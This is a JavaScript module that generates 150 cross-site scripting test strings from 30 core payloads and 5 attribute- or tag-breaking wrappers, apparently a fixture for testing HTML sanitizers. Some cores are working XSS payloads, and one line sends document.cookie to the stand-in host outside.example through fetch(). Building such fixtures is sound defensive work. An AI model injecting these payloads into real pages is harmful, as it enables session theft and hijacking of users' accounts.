// 150 pieces of markup, as somebody would write them into a message, a name or a sheet. Each would open a dialog or ask
// for something elsewhere, if a page took it for more than text.

const OUT = 'https://outside.example';

const CORES = [
  '<script>alert(1)</script>',
  '<ScRiPt>prompt(1)</sCrIpT>',
  '<script src=//outside.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="fetch(\'https://outside.example/\'+document.cookie)">',
  `<img src="${OUT}/pixel.gif">`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  `<object data="${OUT}/x"></object>`,
  `<embed src="${OUT}/x">`,
  `<link rel=stylesheet href="${OUT}/x.css">`,
  `<meta http-equiv=refresh content="0;url=${OUT}/">`,
  `<base href="${OUT}/">`,
  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  `<style>@import "${OUT}/x.css";</style>`,
  `<form action="${OUT}/"><button autofocus>x</button></form>`,
  '<div hx-get="https://outside.example/" hx-trigger="load">x</div>',
  '<div hx-on:load="alert(1)" data-hx-on="load: alert(1)">x</div>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  'javascript:alert(1)//',
  '<marquee onstart=alert(1)>x</marquee>',
];

const WRAPS = [
  (core) => core,
  (core) => `">${core}`,
  (core) => `'>${core}<!--`,
  (core) => `</textarea></title></script></style>${core}`,
  (core) => `" onmouseover=alert(1) autofocus onfocus=alert(1) x="${core}\u202E`,
];

export const PAYLOADS = WRAPS.flatMap((wrap) => CORES.map(wrap));
if (new Set(PAYLOADS).size !== 150) throw new Error(`${new Set(PAYLOADS).size} payloads`);
